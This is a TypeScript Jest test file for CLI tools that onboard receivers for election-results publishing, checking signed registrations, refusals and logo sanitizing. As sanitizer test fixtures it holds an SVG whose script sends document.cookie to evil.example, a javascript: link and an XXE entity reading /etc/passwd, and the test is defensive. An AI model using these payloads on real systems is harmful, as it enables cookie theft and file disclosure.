// Onboarding a difusor with the real CLIs (docs/operations/onboarding.md): the difusor's
// `prep-receiver register` writes a signed registration, the OPLE's `prep-publisher receivers add`
// checks it and imports it; every refusal names what is wrong and leaves publisher.yaml untouched.
// The same page runs word for word, including a push to the onboarded receiver, in guides.test.ts.
import { X509Certificate } from "node:crypto";
import * as fs from "node:fs";
import * as os from "node:os";
import * as path from "node:path";
import { cli, PUBLISHER_BIN, RECEIVER_BIN } from "@prepcast/testkit";

jest.setTimeout(120_000);

const HOSTILE_LOGO =
  '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10" onload="alert(1)"><script>fetch("//evil.example/"+document.cookie)</script>' +
  '<a href="javascript:alert(2)"><rect width="10" height="10" fill="#036"/></a><image href="https://evil.example/track.png"/></svg>';

describe("onboarding a difusor: signed registration → receivers add / list / remove", () => {
  let dir: string;
  let config: string;
  let registration: string;
  const receiver = (args: string[]) => cli(RECEIVER_BIN, args, { allowFail: true });
  const publisher = (args: string[]) => cli(PUBLISHER_BIN, args, { allowFail: true });
  const refusal = (r: ReturnType<typeof cli>) => ({
    code: r.code,
    error: (r.json as { code?: string } | null)?.code,
    message: (r.json as { message?: string } | null)?.message ?? r.stderr,
  });

  beforeAll(() => {
    dir = fs.mkdtempSync(path.join(os.tmpdir(), "prepcast-onboarding-"));
    expect(receiver(["init", "--dir", path.join(dir, "difusor"), "--id", "uv-xalapa", "--local", "--json"]).code).toBe(0);
    expect(publisher(["init", "--dir", path.join(dir, "ople"), "--json"]).code).toBe(0);
    config = path.join(dir, "ople", "publisher.yaml");
    fs.writeFileSync(path.join(dir, "logo.svg"), HOSTILE_LOGO);
    registration = path.join(dir, "registration.json");
  });
  afterAll(() => fs.rmSync(dir, { recursive: true, force: true }));

  const register = (extra: string[]) =>
    receiver([
      "register",
      "--config",
      path.join(dir, "difusor", "receiver.yaml"),
      "--organization",
      "Universidad Veracruzana",
      "--public-url",
      "https://prep.uv.mx/",
      "--json",
      ...extra,
    ]);

  test("the difusor's register refuses a registration without staff, or with a malformed email, naming it", () => {
    expect(refusal(register(["--out", path.join(dir, "none.json")]))).toMatchObject({
      code: 78,
      error: "CONFIG_INVALID",
      message: expect.stringContaining("--staff"),
    });
    expect(refusal(register(["--staff", "Ana Pérez|Responsable técnica|+52 228 842 1700", "--out", path.join(dir, "x.json")]))).toMatchObject({
      error: "CONFIG_INVALID",
      message: expect.stringContaining("Name|Role|Phone|Email"),
    });
    expect(refusal(register(["--staff", "Ana Pérez|Responsable técnica|+52 228 842 1700|ana-at-uv", "--out", path.join(dir, "x.json")]))).toMatchObject({
      error: "REGISTRATION_INVALID",
      message: expect.stringContaining("staff.0.email"),
    });
    fs.writeFileSync(path.join(dir, "logo.png"), Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0xff, 0xfe]));
    expect(
      refusal(register(["--staff", "Ana|Técnica|+52 228 842 1700|ana@uv.mx", "--logo", path.join(dir, "logo.png"), "--out", path.join(dir, "x.json")])),
    ).toMatchObject({ error: "LOGO_INVALID" });
    expect(fs.existsSync(path.join(dir, "x.json"))).toBe(false);
  });

  test("register writes the signed file and prints the identity key id to read to the OPLE", () => {
    const r = register([
      "--staff",
      "Ana Pérez|Responsable técnica|+52 228 842 1700|ana.perez@uv.mx",
      "--staff",
      "Luis Gómez|Servidores|+52 228 842 1701|luis.gomez@uv.mx",
      "--logo",
      path.join(dir, "logo.svg"),
      "--address",
      "203.0.113.10:8730",
      "--out",
      registration,
    ]);
    expect(r.code).toBe(0);
    const init = JSON.parse(fs.readFileSync(path.join(dir, "difusor", "identity.pub"), "utf8")) as { keyid: string };
    expect(r.json).toMatchObject({
      ok: true,
      id: "uv-xalapa",
      identityKeyId: init.keyid,
      transport: "grpc",
      address: "203.0.113.10:8730",
      staff: 2,
      logo: true,
    });
    // a second register does not overwrite it silently
    expect(refusal(register(["--staff", "Ana|Técnica|+52 228 842 1700|ana@uv.mx", "--out", registration]))).toMatchObject({ error: "STATE_CONFLICT" });
  });

  test("receivers add refuses an edited file, a key id that is not the one given, and a logo that is not SVG, leaving publisher.yaml byte for byte", () => {
    const before = fs.readFileSync(config);
    const keyid = (JSON.parse(fs.readFileSync(path.join(dir, "difusor", "identity.pub"), "utf8")) as { keyid: string }).keyid;
    const edited = path.join(dir, "edited.json");
    fs.writeFileSync(edited, fs.readFileSync(registration, "utf8").replace("203.0.113.10:8730", "198.51.100.66:8730"));
    expect(refusal(publisher(["receivers", "add", edited, "--config", config, "--json"]))).toMatchObject({ code: 1, error: "SIGNATURE_INVALID" });
    expect(refusal(publisher(["receivers", "add", registration, "--config", config, "--expect-key", "0".repeat(64), "--json"]))).toMatchObject({
      error: "SIGNATURE_INVALID",
      message: expect.stringContaining(keyid),
    });
    const yaml = path.join(dir, "difusor", "registration.yaml"); // init's unsigned file is not a signed registration
    expect(refusal(publisher(["receivers", "add", yaml, "--config", config, "--json"]))).toMatchObject({ error: "REGISTRATION_INVALID" });
    const big = path.join(dir, "big.json");
    fs.writeFileSync(big, Buffer.alloc(300 * 1024, 0x20));
    expect(refusal(publisher(["receivers", "add", big, "--config", config, "--json"]))).toMatchObject({
      error: "REGISTRATION_INVALID",
      message: expect.stringContaining("more than"),
    });
    // signed by the difusor, but its "logo" is not an SVG document the allowlist can rewrite
    fs.writeFileSync(
      path.join(dir, "doctype.svg"),
      '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg">&x;</svg>',
    );
    const doctype = path.join(dir, "doctype.json");
    expect(
      register([
        "--staff",
        "Ana|Técnica|+52 228 842 1700|ana@uv.mx",
        "--logo",
        path.join(dir, "doctype.svg"),
        "--address",
        "203.0.113.10:8730",
        "--out",
        doctype,
      ]).code,
    ).toBe(0);
    expect(refusal(publisher(["receivers", "add", doctype, "--config", config, "--json"]))).toMatchObject({ error: "LOGO_INVALID" });
    expect(fs.readFileSync(config).equals(before)).toBe(true);
    expect(fs.existsSync(path.join(dir, "ople", "registrations", "uv-xalapa.json"))).toBe(false);
  });

  test("receivers add with the right key id imports it: the registry entry, the sanitized logo, the signed file kept; list shows it", () => {
    const keyid = (JSON.parse(fs.readFileSync(path.join(dir, "difusor", "identity.pub"), "utf8")) as { keyid: string }).keyid;
    const r = publisher(["receivers", "add", registration, "--config", config, "--expect-key", keyid, "--json"]);
    expect(r.code).toBe(0);
    expect(r.json).toMatchObject({ ok: true, receiver: "uv-xalapa", replaced: false, identityKeyId: keyid, staff: 2, logo: true });
    const logo = fs.readFileSync(path.join(dir, "ople", "logos", "uv-xalapa.svg"), "utf8");
    expect(logo).toContain("<rect");
    for (const bad of ["<script", "onload", "javascript:", "evil.example"]) expect(logo).not.toContain(bad);
    expect(fs.readFileSync(path.join(dir, "ople", "registrations", "uv-xalapa.json")).equals(fs.readFileSync(registration))).toBe(true);
    const list = publisher(["receivers", "list", "--config", config, "--json"]);
    const cert = fs.readFileSync(path.join(dir, "difusor", "tls.crt"));
    expect((list.json as { receivers: unknown[] }).receivers).toEqual([
      expect.objectContaining({
        id: "uv-xalapa",
        organization: "Universidad Veracruzana",
        transport: "grpc",
        address: "203.0.113.10:8730",
        tlsFingerprint: new X509Certificate(cert).fingerprint256.replace(/:/g, "").toLowerCase(),
        staff: [expect.objectContaining({ name: "Ana Pérez", email: "ana.perez@uv.mx" }), expect.objectContaining({ name: "Luis Gómez" })],
        logo: "./logos/uv-xalapa.svg",
      }),
    ]);
    // the config still loads for the service, and the comments of init's example are kept
    expect(publisher(["check-config", "--config", config]).code).toBe(0);
    expect(fs.readFileSync(config, "utf8")).toContain("# - id: uv-xalapa");
    // twice: refused unless --replace
    expect(refusal(publisher(["receivers", "add", registration, "--config", config, "--json"]))).toMatchObject({ error: "STATE_CONFLICT" });
    expect(publisher(["receivers", "add", registration, "--config", config, "--replace", "--json"]).json).toMatchObject({ replaced: true });
  });

  test("receivers remove takes it out of the registry; an unknown id is NOT_FOUND", () => {
    expect(publisher(["receivers", "remove", "uv-xalapa", "--config", config, "--json"]).json).toMatchObject({ ok: true, removed: true });
    expect((publisher(["receivers", "list", "--config", config, "--json"]).json as { receivers: unknown[] }).receivers).toEqual([]);
    expect(refusal(publisher(["receivers", "remove", "uv-xalapa", "--config", config, "--json"]))).toMatchObject({ error: "NOT_FOUND" });
    expect(publisher(["check-config", "--config", config]).code).toBe(0);
  });
});
